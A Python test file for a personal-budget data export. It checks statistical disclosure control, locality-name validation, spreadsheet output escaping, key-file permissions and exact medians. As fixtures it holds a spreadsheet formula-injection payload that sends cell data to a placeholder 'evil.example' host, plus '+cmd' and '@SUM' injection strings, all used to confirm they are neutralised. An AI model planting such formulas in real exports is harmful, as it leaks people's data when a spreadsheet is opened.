"""Security review 6 of the aggregate export: class disclosure of small groups, statistics of
hidden groups, typed locality text, key file permissions, unprotectable tables, exact medians
and the notice stating the rules used."""

from __future__ import annotations

import csv
import io
import json
import os
import stat
from datetime import UTC, date, datetime
from fractions import Fraction
from pathlib import Path

import pytest

from personalbudget.domain.vocabularies import PRIMARY_SUPPORT_REASONS
from personalbudget.export.dataset import PersonRecord
from personalbudget.export.disclosure import (
    SUPPRESSED,
    DisclosureError,
    DisclosureRules,
    exact_median,
    protect_table,
    protected_median,
)
from personalbudget.export.hub import LEDGER_FILE, PRIVATE_KEY_FILE, PUBLIC_KEY_FILE, create_hub
from personalbudget.export.outputs import (
    ReleaseMetadata,
    anonymised_notice,
    content_hash,
    datapackage,
    table_csv,
    write_release,
)
from personalbudget.export.tables import (
    ALL,
    OTHER_LOCALITIES,
    SPECS,
    Period,
    PublishedRow,
    PublishedTable,
    _count_line,
    _statistic_line,
    _two_way,
    build_tables,
    locality_name_publishable,
)
from personalbudget.storage.keys import KeyFile

RULES = DisclosureRules()
YEAR = Period(date(2025, 4, 1), date(2026, 3, 31))
AT = datetime(2026, 4, 2, tzinfo=UTC)
PC, MH = PRIMARY_SUPPORT_REASONS[1], PRIMARY_SUPPORT_REASONS[7]
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"North")'
POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX")


def rec(i: int, **overrides) -> PersonRecord:
    values = dict(
        key=f"k{i:04d}",
        age_band="25-44",
        locality="North",
        primary_support_reason=PC,
        budget_type="personal_budget",
        budget_streams=(("social_care", 1_000_000),),
        delivery_mechanisms=(("CASSR Commissioned Support", 1_000_000),),
        plan_version_at=AT,
    )
    values.update(overrides)
    return PersonRecord(**values)


def table(records, spec_id, rules=RULES):
    return next(t for t in build_tables(records, rules, YEAR) if t.spec.id == spec_id)


# -- 1. class disclosure: a group of 1-7 publishes nothing about itself -------------------------------


def test_a_small_group_all_not_met_shows_no_zeros():
    records = []
    for i in range(20):
        outcomes = [("b", ("Fully Met", "Partially Met", "Not Met")[i % 3])]
        if i < 5:
            outcomes.append(("a", "Not Met"))
        records.append(rec(i, outcomes_at_review=tuple(outcomes)))
    t = table(records, "outcomes_at_review")
    row_a = {r.dims[1]: r.value for r in t.rows if r.dims[0] == "a"}
    assert row_a == {
        "Fully Met": SUPPRESSED,
        "Partially Met": SUPPRESSED,
        "Not Met": SUPPRESSED,
        ALL: SUPPRESSED,
    }
    assert t.value("c", "Fully Met", measure="people") == 0  # nobody rated: still an exact 0


def test_spend_against_plan_publishes_nothing_for_a_small_group():
    records = [
        rec(
            i,
            delivery_mechanisms=(("Direct Payment", 1_000_000),),
            ledger_kept=True,
            actual_by_category=(("personal_care", 10_000),),
        )
        for i in range(5)
    ] + [rec(10 + i) for i in range(20)]
    t = table(records, "spend_against_plan_by_mechanism")
    row = {r.measure: r.value for r in t.rows if r.dims == ("Direct Payment only",)}
    assert set(row.values()) == {SUPPRESSED}  # people_overspent was 0: "none of them overspent"
    assert t.value("Part Direct Payment", measure="people_overspent") == 0  # an empty group


def test_zeros_of_a_small_row_are_hidden_and_still_not_recoverable():
    cells = [[0, 0, 3], [10, 0, 0], [0, 12, 0]]
    notes: list[str] = []
    rows = _two_way(cells, ["r0", "r1", "r2"], ["c0", "c1", "c2"], RULES, notes)
    values = {r.dims: r.value for r in rows}
    assert values[("r0", "c0")] == values[("r0", "c1")] == values[("r0", "c2")] == SUPPRESSED
    assert any("Zeros" in n for n in notes)


# -- 2. statistics: zero sums are partners, hidden counts hide their statistics -------------------------


def test_a_zero_sum_group_is_a_partner_and_the_total_never_equals_one_hidden_sum():
    records = [rec(i, budget_streams=(("social_care", 0),)) for i in range(9)] + [
        rec(100 + i, primary_support_reason=MH, budget_streams=(("social_care", b),))
        for i, b in enumerate((1_000_000, 1_100_000, 1_200_000))
    ]
    t = table(records, "budget_by_reason")
    hidden_sum = 33_000
    published = [r.value for r in t.rows if r.measure == "total_annual_budget_gbp"]
    assert hidden_sum not in published
    assert t.value(MH, measure="total_annual_budget_gbp") == SUPPRESSED
    # The nine have their count hidden: neither their total (0) nor their median (0) is published.
    assert t.value(PC, measure="people") == SUPPRESSED
    assert t.value(PC, measure="total_annual_budget_gbp") == SUPPRESSED
    assert t.value(PC, measure="median_annual_budget_gbp") == SUPPRESSED


def test_statistic_line_partners_and_exposure():
    zeros, three = [0] * 10, [100, 200, 300]
    line, exposed = _statistic_line([zeros, three], RULES, [10, SUPPRESSED])
    assert line[0][0] == SUPPRESSED and line[1][0] == SUPPRESSED and not exposed  # the £0 group partners
    assert line[0][1] == 0  # its median is still allowed
    line, exposed = _statistic_line([[], three], RULES, [0, SUPPRESSED])
    assert line == [(0, SUPPRESSED), (SUPPRESSED, SUPPRESSED)] and exposed  # no partner: hide the total
    line, exposed = _statistic_line([[100] * 9], DisclosureRules(threshold=10), [SUPPRESSED])
    assert line == [(SUPPRESSED, SUPPRESSED)]  # 9 >= min_contributors, but the count is hidden


def test_a_lone_hidden_stream_hides_the_all_total():
    records = [rec(i, budget_streams=(("social_care", 1_000_000 + i),)) for i in range(20)]
    records += [rec(50 + i, budget_streams=(("health", 500_000),)) for i in range(3)]
    t = table(records, "budget_by_funding_stream")
    assert t.value("health", measure="total_annual_budget_gbp") == SUPPRESSED
    assert t.value("social_care", measure="total_annual_budget_gbp") == SUPPRESSED  # its partner
    only_health = [rec(i, budget_streams=(("health", 500_000 + i),)) for i in range(3)]
    only_health += [rec(10 + i, budget_streams=(("social_care", 0),)) for i in range(20)]
    by_reason = table(only_health, "budget_by_reason")
    assert by_reason.value(ALL, measure="total_annual_budget_gbp") == SUPPRESSED  # = the 3 health amounts


# -- 3. locality text ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "publishable"),
    [
        ("Westgate", True),
        ("Ynys Môn", True),
        ("Bro Morgannwg", True),
        (HYPERLINK, False),
        ("+44 North", False),
        ("-North", False),
        ("@North", False),
        ("CF10 1AA", False),
        ("sw1a1aa", False),
        ("12 High Street", False),
        ("North\tSouth", False),
        ("North\nSouth", False),
        ("x" * 41, False),
        ("x" * 40, True),
    ],
)
def test_which_locality_names_can_be_published(name, publishable):
    assert locality_name_publishable(name) is publishable


def test_formula_and_postcode_localities_are_pooled():
    records = [rec(i, locality=HYPERLINK) for i in range(10)]
    records += [rec(20 + i, locality="CF10 1AA") for i in range(8)]
    records += [rec(40 + i, locality="Llanfair Pwllgwyngyll Care Home, High Street") for i in range(8)]
    records += [rec(60 + i, locality="Westgate") for i in range(8)]
    t = table(records, "people_by_locality_mechanism")
    places = {r.dims[0] for r in t.rows}
    assert places == {"Westgate", OTHER_LOCALITIES, ALL}
    assert any("digits or symbols" in n for n in t.notes)


# -- 3b. outputs: text stays text ----------------------------------------------------------------------


def _crafted() -> PublishedTable:
    spec = SPECS["spend_against_plan_by_mechanism"]
    rows = (
        PublishedRow((HYPERLINK,), "people", 10),
        PublishedRow(("+cmd",), "difference_gbp", -74_600),
        PublishedRow(("@SUM(A1)",), "people", SUPPRESSED),
    )
    return PublishedTable(spec, rows, ())


def test_csv_cells_that_look_like_formulas_are_quoted_and_numbers_stay_numbers():
    rows = list(csv.reader(io.StringIO(table_csv(_crafted()).decode("utf-8"))))
    assert rows[1] == ["'" + HYPERLINK, "people", "10"]
    assert rows[2] == ["'+cmd", "difference_gbp", "-74600"]
    assert rows[3] == ["'@SUM(A1)", "people", "*"]


def test_xlsx_text_is_never_a_formula(tmp_path: Path):
    from openpyxl import load_workbook

    tables = [_crafted()]
    meta = ReleaseMetadata(YEAR, RULES, AT, content_hash(tables), "")
    write_release(tmp_path / "out", tables, meta)
    book = load_workbook(tmp_path / "out" / "aggregates.xlsx")
    sheet = book["spend_against_plan_by_mechanism"]
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == HYPERLINK
    assert sheet["C3"].value == -74_600 and sheet["C3"].data_type == "n"
    assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)


# -- 4. file permissions ---------------------------------------------------------------------------------


class _NoKeyring:
    def available(self) -> bool:
        return False


@POSIX_ONLY
def test_hub_keys_are_for_the_owner_only(tmp_path: Path):
    old = os.umask(0o022)
    try:
        folder = tmp_path / "hub"
        create_hub(
            folder, _NoKeyring(), lambda _creating: "correct horse battery staple", AT, use_keyring=False
        )
    finally:
        os.umask(old)
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for name in (PUBLIC_KEY_FILE, PRIVATE_KEY_FILE, LEDGER_FILE):  # the (empty) ledger is made at init
        assert stat.S_IMODE((folder / name).stat().st_mode) == 0o600
    assert sorted(p.name for p in folder.iterdir()) == sorted(
        [PUBLIC_KEY_FILE, PRIVATE_KEY_FILE, LEDGER_FILE]
    )


@POSIX_ONLY
def test_the_caseload_key_file_is_for_the_owner_only(tmp_path: Path):
    path = tmp_path / "caseload.db.key"
    (tmp_path / "caseload.db.key.tmp").write_text("left by a crash")
    old = os.umask(0)
    try:
        KeyFile("db-id", "keyring").write(path)
        KeyFile("db-id", "keyring").write(path)  # replacing it keeps it private
    finally:
        os.umask(old)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert json.loads(path.read_text())["database_id"] == "db-id"
    assert not (tmp_path / "caseload.db.key.tmp").exists()


# -- 5. a table that cannot be protected is not published --------------------------------------------


def test_protect_table_refuses_when_totals_alone_pin_a_cell():
    # 9 people: a cell of 8 and a cell of 1 under a published total of 9. Hiding both still pins
    # them (at least 8 and at least 1 make 9), so there is nothing safe to publish with that total.
    with pytest.raises(DisclosureError):
        protect_table([[8, 1]], [[False, True]], RULES, row_totals=[True])


def test_an_unprotectable_table_is_published_all_suppressed():
    notes: list[str] = []
    rows = _two_way([[8, 1]], ["r"], ["x", "y"], RULES, notes, column_margin=False)
    assert {r.value for r in rows} == {SUPPRESSED}
    assert any("Every cell" in n for n in notes) and not any("more cell" in n for n in notes)
    assert _count_line([8, 1], RULES) == [SUPPRESSED, SUPPRESSED]


# -- 6. exact medians -------------------------------------------------------------------------------------


def test_medians_of_even_counts_are_exact():
    assert exact_median([3, 4]) == Fraction(7, 2)
    big = 10**17
    assert exact_median([big + 1, big + 2]) == Fraction(2 * big + 3, 2)  # a float would lose the half
    assert protected_median([big + 1] * 4 + [big + 2] * 4, RULES) == Fraction(2 * big + 3, 2)
    records = [rec(i, budget_streams=(("social_care", 100_050 + (i >= 4) * 100),)) for i in range(8)]
    # middle values £1,000.50 and £1,001.50: the median is £1,001.00 exactly
    assert table(records, "budget_by_reason").value(ALL, measure="median_annual_budget_gbp") == 1_001


# -- 7. the notice states the rules used ----------------------------------------------------------------


def test_the_notice_states_the_rules_actually_used():
    strict = DisclosureRules(threshold=10, base=10, min_contributors=10)
    notice = anonymised_notice(strict)
    assert "1-9" in notice and "nearest 10" in notice and "at least 10 people" in notice
    assert "1-7" in anonymised_notice(RULES) and "nearest 5" in anonymised_notice(RULES)
    package = datapackage([], ReleaseMetadata(YEAR, strict, AT, "h", ""))
    assert package["description"] == notice and package["personalbudget"]["notice"] == notice
